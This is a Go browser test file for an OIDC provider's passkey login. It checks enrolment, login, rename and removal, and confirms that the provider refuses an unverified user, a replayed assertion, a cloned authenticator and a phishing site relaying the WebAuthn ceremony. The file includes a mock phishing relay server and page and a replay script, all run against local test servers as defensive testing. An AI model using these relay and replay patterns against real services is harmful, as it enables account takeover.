package oidc_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/webauthn"
	"github.com/chromedp/chromedp"
	"github.com/coreos/go-oidc/v3/oidc"

	"github.com/tongban/tongban/internal/browsertest"
	tboidc "github.com/tongban/tongban/oidc"
	"github.com/tongban/tongban/storage"
	"github.com/tongban/tongban/storage/storagetest"
)

// Passkeys in headless Chromium with a virtual authenticator (DevTools WebAuthn domain).
//
// The RP ID is the issuer's host, and WebAuthn refuses IP addresses, so these tests run the
// provider at https://localhost:<port>: httptest still listens on 127.0.0.1 (localhost
// resolves to it), Chromium accepts the test certificate (--ignore-certificate-errors) and
// treats localhost as a secure context, and the Go clients (go-oidc, x/oauth2) verify the
// certificate under the name it was issued for (example.com) while connecting to localhost.
// No host-resolver rules or extra certificates are needed.

func TestPasskeyBrowserSQLite(t *testing.T) {
	testPasskeyBrowser(t, storagetest.SQLite(t))
}

func TestPasskeyBrowserPostgres(t *testing.T) {
	testPasskeyBrowser(t, storagetest.Postgres(t))
}

// newLocalhostEnv is newEnv with the issuer at http(s)://localhost:<port>.
func newLocalhostEnv(t testing.TB, store storage.Storage, o envOptions) *env {
	t.Helper()
	var issuer string
	mutate := o.mutate
	o.mutate = func(c *tboidc.Config) {
		issuer = strings.Replace(c.Issuer, "://127.0.0.1:", "://localhost:", 1)
		c.Issuer = issuer
		if mutate != nil {
			mutate(c)
		}
	}
	e := newEnv(t, store, o)
	e.issuer = issuer
	if tr := e.hs.Client().Transport.(*http.Transport); tr.TLSClientConfig != nil {
		tr.TLSClientConfig.ServerName = "example.com" // the name httptest's certificate is issued for
	}
	e.ctx = oidc.ClientContext(context.Background(), e.hs.Client())
	return e
}

// callbackServer is a relying party's redirect URI: it records the query of each callback.
type callbackServer struct {
	hs    *httptest.Server
	calls chan url.Values
}

func newCallbackServer(t *testing.T) *callbackServer {
	cb := &callbackServer{calls: make(chan url.Values, 4)}
	cb.hs = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/callback" { // the browser asks for /favicon.ico too
			http.NotFound(w, r)
			return
		}
		cb.calls <- r.URL.Query()
		fmt.Fprint(w, "<!DOCTYPE html><title>app</title><p>signed in</p>")
	}))
	t.Cleanup(cb.hs.Close)
	return cb
}

// virtualAuthenticator enables the WebAuthn domain in ctx's tab and adds a platform
// authenticator (CTAP2, internal transport) with resident keys and user verification that
// succeeds.
func virtualAuthenticator(t *testing.T, ctx context.Context) webauthn.AuthenticatorID {
	t.Helper()
	if _, err := chromedp.Call(ctx, webauthn.Enable, webauthn.EnableParams{}); err != nil {
		t.Fatalf("WebAuthn.enable: %v", err)
	}
	res, err := chromedp.Call(ctx, webauthn.AddVirtualAuthenticator, webauthn.AddVirtualAuthenticatorParams{
		Options: &webauthn.VirtualAuthenticatorOptions{
			Protocol: webauthn.AuthenticatorProtocolCtap2, Ctap2version: webauthn.Ctap2versionCtap21,
			Transport: webauthn.AuthenticatorTransportInternal, HasResidentKey: true, HasUserVerification: true,
			IsUserVerified: true, AutomaticPresenceSimulation: true,
		},
	})
	if err != nil {
		t.Fatalf("WebAuthn.addVirtualAuthenticator: %v", err)
	}
	return res.AuthenticatorID
}

func credentials(t *testing.T, ctx context.Context, id webauthn.AuthenticatorID) []*webauthn.Credential {
	t.Helper()
	res, err := chromedp.Call(ctx, webauthn.GetCredentials, webauthn.GetCredentialsParams{AuthenticatorID: id})
	if err != nil {
		t.Fatalf("WebAuthn.getCredentials: %v", err)
	}
	return res.Credentials
}

// do runs browser steps and fails the test with what on error.
func do(t *testing.T, ctx context.Context, what string, steps ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	if err := chromedp.Do(ctx, steps...); err != nil {
		loc, _ := chromedp.Run(ctx, chromedp.Location())
		body, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body ? document.body.innerText : ""`))
		t.Fatalf("%s: %v (at %s)\n%s", what, err, loc, body)
	}
}

// waitFor evaluates the JavaScript condition every 50 ms until it is true, across navigations
// (an evaluation in a page that is being replaced fails, and is tried again).
func waitFor(t *testing.T, ctx context.Context, what, cond string) {
	t.Helper()
	for {
		if ok, err := chromedp.Run(ctx, chromedp.Evaluate[bool](cond)); err == nil && ok {
			return
		}
		select {
		case <-ctx.Done():
			t.Fatalf("%s: %v", what, ctx.Err())
		case <-time.After(50 * time.Millisecond):
		}
	}
}

// text returns the text of the element sel.
func text(t *testing.T, ctx context.Context, sel string) string {
	t.Helper()
	s, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
	if err != nil {
		t.Fatalf("text of %s: %v", sel, err)
	}
	return s
}

// passwordLogin fills and submits the login form on the current page.
func passwordLogin(t *testing.T, ctx context.Context, id string) {
	t.Helper()
	do(t, ctx, "password login", chromedp.WaitVisible(chromedp.CSS("#identifier")),
		chromedp.SendKeys(chromedp.CSS("#identifier"), id), chromedp.SendKeys(chromedp.CSS("#password"), testPassword),
		chromedp.Submit(chromedp.CSS("#password")))
}

// passkeyLoginError clicks the passkey button on the login page and returns the error shown.
func passkeyLoginError(t *testing.T, ctx context.Context) string {
	t.Helper()
	do(t, ctx, "passkey login (refused)", chromedp.WaitVisible(chromedp.CSS("#passkey-signin")),
		chromedp.Click(chromedp.CSS("#passkey-signin")), chromedp.WaitVisible(chromedp.CSS("#passkey-login-error")))
	return text(t, ctx, "#passkey-login-error")
}

func auditCount(t *testing.T, e *env, action, detail string) int {
	t.Helper()
	evs, err := e.store.QueryAudit(context.Background(), storage.AuditQuery{Action: action, Limit: 100})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, ev := range evs {
		if detail == "" || ev.Detail == detail {
			n++
		}
	}
	return n
}

func testPasskeyBrowser(t *testing.T, store storage.Storage) {
	e := newLocalhostEnv(t, store, envOptions{})
	b := browsertest.Start(t)
	cb := newCallbackServer(t)
	r := e.newRP(tboidc.NewClient{RedirectURIs: []string{cb.hs.URL + "/callback"}})
	r.oauth.RedirectURL = cb.hs.URL + "/callback"

	for i, v := range []browsertest.Viewport{browsertest.Desktop, browsertest.Phone} {
		size := fmt.Sprintf("%dx%d", v.Width, v.Height)
		p, id := e.person(fmt.Sprintf("李%d明", i), "")
		ctx := b.Context(v, 2*time.Minute)
		auth := virtualAuthenticator(t, ctx)

		// 1. The account page, after a password login: no passkeys yet.
		do(t, ctx, "account page", chromedp.Navigate(e.issuer+"/account?ui_locales=zh-CN"))
		passwordLogin(t, ctx, id)
		do(t, ctx, "passkey section", chromedp.WaitVisible(chromedp.CSS("#passkeys")))
		if got := text(t, ctx, "#passkeys"); !strings.Contains(got, "您还没有添加通行密钥") {
			t.Fatalf("passkey section: %q", got)
		}
		b.Screenshot(ctx, "account-no-passkey-"+size)

		// 2. Enrol: the virtual authenticator makes a resident credential whose user handle is
		// the stored random handle, not the person ID.
		do(t, ctx, "enrol", chromedp.SendKeys(chromedp.CSS("#passkey-new-name"), "我的手机"),
			chromedp.Click(chromedp.CSS("#passkey-add")), chromedp.WaitVisible(chromedp.CSS(".notice")))
		if got := text(t, ctx, ".notice"); !strings.Contains(got, "通行密钥已添加") {
			t.Fatalf("notice after enrolment: %q", got)
		}
		pks, err := e.store.ListPasskeys(t.Context(), p.ID)
		if err != nil || len(pks) != 1 || pks[0].Name != "我的手机" || !pks[0].UserVerified || pks[0].BackupEligible {
			t.Fatalf("stored passkeys %+v, %v", pks, err)
		}
		creds := credentials(t, ctx, auth)
		handle, _ := e.store.EnsurePasskeyUserHandle(t.Context(), p.ID, []byte("unused"))
		if len(creds) != 1 || !creds[0].IsResidentCredential || !bytes.Equal(creds[0].UserHandle, handle) ||
			!bytes.Equal(creds[0].CredentialID, pks[0].CredentialID) || bytes.Contains(creds[0].UserHandle, []byte(p.ID)) {
			t.Fatalf("virtual authenticator holds %+v; want one resident credential with the stored user handle", creds)
		}
		b.Screenshot(ctx, "account-passkey-"+size)

		// 3. Log out.
		do(t, ctx, "log out", chromedp.Navigate(e.issuer+"/logout"), chromedp.Click(chromedp.CSS("button[type=submit]")))
		// Wait for the page after the logout (the confirmation page has an h2 too): navigating
		// away while the form's navigation is in flight would abort one of them.
		waitFor(t, ctx, "log out", `document.body.innerText.includes("您已安全退出")`)

		// 4. Log in to the app with the passkey alone: the ID token says mfa.
		successes := auditCount(t, e, "login.success", tboidc.ACRMultiFactor)
		a := r.authURL()
		do(t, ctx, "authorization request", chromedp.Navigate(a.url), chromedp.WaitVisible(chromedp.CSS("#passkey-signin")))
		b.Screenshot(ctx, "login-"+size)
		do(t, ctx, "passkey login", chromedp.Click(chromedp.CSS("#passkey-signin")))
		{ // each viewport has a new person, who consents once
			do(t, ctx, "consent", chromedp.WaitVisible(chromedp.CSS("button[value=allow]")), chromedp.Click(chromedp.CSS("button[value=allow]")))
		}
		var q url.Values
		select {
		case q = <-cb.calls:
		case <-ctx.Done():
			t.Fatal("the app got no callback after the passkey login")
		}
		if q.Get("state") != a.state || q.Get("code") == "" {
			t.Fatalf("callback %v", q)
		}
		tok, err := r.exchange(q.Get("code"), a.verifier)
		if err != nil {
			t.Fatal(err)
		}
		_, claims := r.verify(tok.Extra("id_token").(string), a.nonce)
		amr, _ := json.Marshal(claims["amr"])
		if claims["acr"] != tboidc.ACRMultiFactor || string(amr) != `["hwk","user","mfa"]` || claims["sub"] == "" {
			t.Fatalf("ID token acr %v amr %s", claims["acr"], amr)
		}
		if n := auditCount(t, e, "login.success", tboidc.ACRMultiFactor); n != successes+1 {
			t.Fatalf("%d login.success audit entries with acr mfa, want %d", n, successes+1)
		}
		pk, _ := e.store.GetPasskey(t.Context(), pks[0].CredentialID)
		if pk.LastUsedAt == nil || pk.SignCount == 0 {
			t.Fatalf("after the login: last use %v, counter %d", pk.LastUsedAt, pk.SignCount)
		}
		if i > 0 {
			continue
		}
		testPasskeyBrowserRefusals(t, e, b, ctx, auth, p, pk)
	}
}

// testPasskeyBrowserRefusals plays the bad inputs of the issue against a person with a passkey,
// in a browser that has a session: user not verified, a replayed assertion, a phishing origin
// relaying the ceremony, a cloned authenticator (counter set back); then rename and remove.
func testPasskeyBrowserRefusals(t *testing.T, e *env, b *browsertest.Browser, ctx context.Context,
	auth webauthn.AuthenticatorID, p storage.Person, pk storage.Passkey) {
	loginPage := e.issuer + "/account/login?next=%2Faccount&ui_locales=zh-CN"

	// Rename, from the account page.
	do(t, ctx, "rename", chromedp.Navigate(e.issuer+"/account"), chromedp.WaitVisible(chromedp.CSS(".passkey-rename input[name=name]")),
		chromedp.SetValue(chromedp.CSS(".passkey-rename input[name=name]"), "办公室电脑"),
		chromedp.Submit(chromedp.CSS(".passkey-rename input[name=name]")), chromedp.WaitVisible(chromedp.CSS(".notice")))
	if got := text(t, ctx, ".passkey-name"); got != "办公室电脑" {
		t.Fatalf("name after rename: %q", got)
	}

	// User not verified: the authenticator answers with the UV flag clear.
	t.Run("fail/user not verified", func(t *testing.T) {
		if _, err := chromedp.Call(ctx, webauthn.SetResponseOverrideBits, webauthn.SetResponseOverrideBitsParams{
			AuthenticatorID: auth, IsBadUV: ptrTo(true)}); err != nil {
			t.Fatal(err)
		}
		do(t, ctx, "login page", chromedp.Navigate(loginPage))
		if got := passkeyLoginError(t, ctx); !strings.Contains(got, "未验证您的指纹、面容或锁屏密码") {
			t.Fatalf("error shown: %q", got)
		}
		if _, err := chromedp.Call(ctx, webauthn.SetResponseOverrideBits, webauthn.SetResponseOverrideBitsParams{AuthenticatorID: auth}); err != nil {
			t.Fatal(err)
		}
		if auditCount(t, e, "passkey.login.failure", "user_not_verified") != 1 {
			t.Fatal("no audit entry for the refusal")
		}
		// An authenticator that cannot verify the user makes no assertion at all (userVerification
		// "required"): the page says so and the provider sees nothing.
		if _, err := chromedp.Call(ctx, webauthn.SetUserVerified, webauthn.SetUserVerifiedParams{AuthenticatorID: auth}); err != nil {
			t.Fatal(err)
		}
		do(t, ctx, "login page", chromedp.Navigate(loginPage))
		if got := passkeyLoginError(t, ctx); !strings.Contains(got, "操作已取消或超时") {
			t.Fatalf("error shown without user verification: %q", got)
		}
		if _, err := chromedp.Call(ctx, webauthn.SetUserVerified, webauthn.SetUserVerifiedParams{AuthenticatorID: auth,
			IsUserVerified: true}); err != nil {
			t.Fatal(err)
		}
		if auditCount(t, e, "passkey.login.failure", "") != 1 {
			t.Fatal("a ceremony the browser refused reached the provider")
		}
	})

	// A replayed assertion: the same finish request posted twice; the second is refused.
	t.Run("fail/replayed assertion", func(t *testing.T) {
		do(t, ctx, "login page", chromedp.Navigate(loginPage), chromedp.WaitVisible(chromedp.CSS("#passkey-signin")))
		res, err := chromedp.Run(ctx, chromedp.Evaluate[[]any](`(async () => {
			const begin = await tongban.postJSON("/login/passkey/begin", {});
			const cred = await navigator.credentials.get(tongban.passkey.requestOptions(begin.body.options));
			const body = {authz: document.querySelector("input[name=authz]").value, state: begin.body.state,
				credential: tongban.passkey.credentialJSON(cred)};
			const first = await tongban.postJSON("/login/passkey/finish", body);
			const second = await tongban.postJSON("/login/passkey/finish", body);
			return [first.status, second.status, second.body.error];
		})()`, chromedp.EvalAwaitPromise))
		if err != nil {
			t.Fatal(err)
		}
		if len(res) != 3 || res[0] != float64(200) || res[1] != float64(400) || !strings.Contains(res[2].(string), "已使用过") {
			t.Fatalf("first and replayed finish: %v", res)
		}
		if auditCount(t, e, "passkey.login.failure", "replay") != 1 {
			t.Fatal("no audit entry for the replay")
		}
	})

	// A phishing site on another origin relays the ceremony: its page asks the authenticator
	// for an assertion (same RP ID, localhost), its server posts it to the provider. Refused.
	t.Run("fail/wrong origin (relayed by a phishing site)", func(t *testing.T) {
		relay := newPhishingRelay(t, e)
		do(t, ctx, "phishing page", chromedp.Navigate(relay.hs.URL+"/"))
		got, err := chromedp.Run(ctx, chromedp.Poll[string](`document.title.startsWith("done:") && document.title`))
		if err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(got, "done:400:") || !strings.Contains(got, "该验证来自其他网站") {
			t.Fatalf("relayed assertion: %q", got)
		}
		if auditCount(t, e, "passkey.login.failure", "wrong_origin") != 1 {
			t.Fatal("no audit entry for the wrong origin")
		}
	})

	// A cloned authenticator: its signature counter is set below the one stored.
	t.Run("fail/counter went backwards", func(t *testing.T) {
		stored, _ := e.store.GetPasskey(t.Context(), pk.CredentialID)
		back := float64(stored.SignCount) - 2
		if _, err := chromedp.Call(ctx, webauthn.SetCredentialProperties, webauthn.SetCredentialPropertiesParams{
			AuthenticatorID: auth, CredentialID: pk.CredentialID, SignCount: &back}); err != nil {
			t.Fatal(err)
		}
		do(t, ctx, "login page", chromedp.Navigate(loginPage))
		if got := passkeyLoginError(t, ctx); !strings.Contains(got, "可能已被复制") {
			t.Fatalf("error shown: %q", got)
		}
		flagged, _ := e.store.GetPasskey(t.Context(), pk.CredentialID)
		if !flagged.CloneWarning || auditCount(t, e, "passkey.cloned", "") != 1 {
			t.Fatalf("passkey not flagged (%v) or not audited", flagged.CloneWarning)
		}
		do(t, ctx, "account page", chromedp.Navigate(e.issuer+"/account"), chromedp.WaitVisible(chromedp.CSS(".badge.warn")))
		b.Screenshot(ctx, "account-cloned-1280x800")
	})

	// Remove it: the authenticator's copy no longer logs in.
	do(t, ctx, "remove", chromedp.Click(chromedp.CSS(".passkey-remove button")), chromedp.WaitVisible(chromedp.CSS(".notice")))
	if got := text(t, ctx, ".notice"); !strings.Contains(got, "通行密钥已删除") {
		t.Fatalf("notice after removal: %q", got)
	}
	if pks, _ := e.store.ListPasskeys(t.Context(), p.ID); len(pks) != 0 {
		t.Fatalf("%d passkeys after removal", len(pks))
	}
	do(t, ctx, "login page", chromedp.Navigate(loginPage))
	if got := passkeyLoginError(t, ctx); !strings.Contains(got, "未找到该通行密钥") {
		t.Fatalf("login with a removed passkey: %q", got)
	}
}

func ptrTo[T any](v T) *T { return &v }

// phishingRelay is an attacker's site on another origin (https://localhost:<other port>, so the
// same RP ID) that relays a passkey login: its server gets the provider's options and state
// with a cookie jar of its own, its page has the victim's authenticator answer them, and its
// server posts the answer back to the provider. The page's title ends as
// "done:<provider status>:<provider answer>".
type phishingRelay struct {
	hs *httptest.Server
}

// reAuthz finds the pending request of a login page (reCSRF, its CSRF token, is in
// e2e_otp_test.go).
var reAuthz = regexp.MustCompile(`name="authz" value="([^"]+)"`)

func newPhishingRelay(t *testing.T, e *env) *phishingRelay {
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Transport: e.hs.Client().Transport, Jar: jar}
	var authz, csrf, state string
	post := func(path string, body any) (int, []byte, error) {
		js, _ := json.Marshal(body)
		req, _ := http.NewRequest(http.MethodPost, e.issuer+path, bytes.NewReader(js))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("X-CSRF-Token", csrf)
		resp, err := c.Do(req)
		if err != nil {
			return 0, nil, err
		}
		defer resp.Body.Close()
		b, err := io.ReadAll(resp.Body)
		return resp.StatusCode, b, err
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /{$}", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, phishingPage)
	})
	mux.HandleFunc("GET /options", func(w http.ResponseWriter, r *http.Request) {
		resp, err := c.Get(e.issuer + "/account/login?next=%2Faccount")
		if err != nil {
			http.Error(w, err.Error(), 502)
			return
		}
		page, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		ma, mc := reAuthz.FindSubmatch(page), reCSRF.FindSubmatch(page)
		if ma == nil || mc == nil {
			http.Error(w, "no login form", 502)
			return
		}
		authz, csrf = string(ma[1]), string(mc[1])
		status, body, err := post("/login/passkey/begin", map[string]string{})
		if err != nil || status != 200 {
			http.Error(w, fmt.Sprintf("begin: %d %v", status, err), 502)
			return
		}
		var v struct {
			Options json.RawMessage `json:"options"`
			State   string          `json:"state"`
		}
		_ = json.Unmarshal(body, &v)
		state = v.State
		w.Header().Set("Content-Type", "application/json")
		_, _ = w.Write(v.Options)
	})
	mux.HandleFunc("POST /relay", func(w http.ResponseWriter, r *http.Request) {
		cred, _ := io.ReadAll(r.Body)
		status, body, err := post("/login/passkey/finish", map[string]any{"authz": authz, "state": state,
			"credential": json.RawMessage(cred)})
		if err != nil {
			http.Error(w, err.Error(), 502)
			return
		}
		fmt.Fprintf(w, "%d:%s", status, body)
	})
	hs := httptest.NewUnstartedServer(mux)
	hs.StartTLS()
	t.Cleanup(hs.Close)
	hs.URL = strings.Replace(hs.URL, "://127.0.0.1:", "://localhost:", 1)
	return &phishingRelay{hs: hs}
}

// phishingPage is the attacker's page (no CSP: it is not the provider's).
const phishingPage = `<!DOCTYPE html><meta charset="utf-8"><title>login</title><script>
function u(s){s=s.replace(/-/g,"+").replace(/_/g,"/");while(s.length%4)s+="=";const b=atob(s),a=new Uint8Array(b.length);for(let i=0;i<b.length;i++)a[i]=b.charCodeAt(i);return a.buffer}
function e(buf){let s="";new Uint8Array(buf).forEach(c=>s+=String.fromCharCode(c));return btoa(s).replace(/\+/g,"-").replace(/\//g,"_").replace(/=+$/,"")}
(async()=>{try{
const o=await (await fetch("/options")).json();const pk=o.publicKey;pk.challenge=u(pk.challenge);
const c=await navigator.credentials.get({publicKey:pk});const r=c.response;
const body={id:c.id,rawId:e(c.rawId),type:c.type,clientExtensionResults:{},response:{clientDataJSON:e(r.clientDataJSON),
authenticatorData:e(r.authenticatorData),signature:e(r.signature),userHandle:e(r.userHandle)}};
document.title="done:"+await (await fetch("/relay",{method:"POST",body:JSON.stringify(body)})).text();
}catch(x){document.title="done:error:"+x}})();
</script>`
